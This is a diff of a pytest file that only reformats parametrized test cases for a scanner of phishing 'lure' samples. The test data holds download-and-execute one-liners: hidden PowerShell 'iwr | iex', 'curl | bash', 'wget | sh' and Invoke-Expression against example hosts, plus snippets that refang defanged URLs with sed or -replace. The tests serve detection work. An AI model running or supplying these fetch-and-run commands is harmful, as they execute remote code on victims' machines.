@@ -15,7 +15,10 @@ from behaviour_files import scan_errors
 @pytest.mark.parametrize(
     ("rel", "source"),
     [
-        ("notes/lures.md", 'Pasted from the chat:\npowershell -w hidden -c "iwr hxxp://patch-desk.example.net/p | iex"\n'),
+        (
+            "notes/lures.md",
+            'Pasted from the chat:\npowershell -w hidden -c "iwr hxxp://patch-desk.example.net/p | iex"\n',
+        ),
         ("notes/lures.md", "The message said to run:\ncurl -fsSL hxxps://cdn-fix[.]example.org/i.sh | bash\n"),
         ("samples/lure.sh", "#!/bin/sh\nwget -qO- https://update-helper[.]example.com/run.sh | sh\n"),
         ("samples/lure.ps1", "Invoke-RestMethod -Uri 'hXXps://drivers.example.org/x' | Invoke-Expression\n"),
@@ -32,9 +35,13 @@ def test_defanged_download_runs_nothing(tmp_path: Path, rel: str, source: str) -
         ("samples/lure.ps1", "Invoke-RestMethod -Uri 'https://drivers.example.org/x' | Invoke-Expression\n"),
         (
             "samples/refang.ps1",
-            "$u = 'hxxps://drivers.example.org/x' -replace 'hxxp', 'http'\nInvoke-RestMethod -Uri $u | Invoke-Expression\n",
+            "$u = 'hxxps://drivers.example.org/x' -replace 'hxxp', 'http'\n"
+            "Invoke-RestMethod -Uri $u | Invoke-Expression\n",
         ),
-        ("samples/refang.sh", "#!/bin/sh\nu=$(echo hxxps://a.example.org/i.sh | sed 's/hxxp/http/')\ncurl -s \"$u\" | sh\n"),
+        (
+            "samples/refang.sh",
+            "#!/bin/sh\nu=$(echo hxxps://a.example.org/i.sh | sed 's/hxxp/http/')\ncurl -s \"$u\" | sh\n",
+        ),
     ],
 )
 def test_live_or_refanged_download_still_runs(tmp_path: Path, rel: str, source: str) -> None:
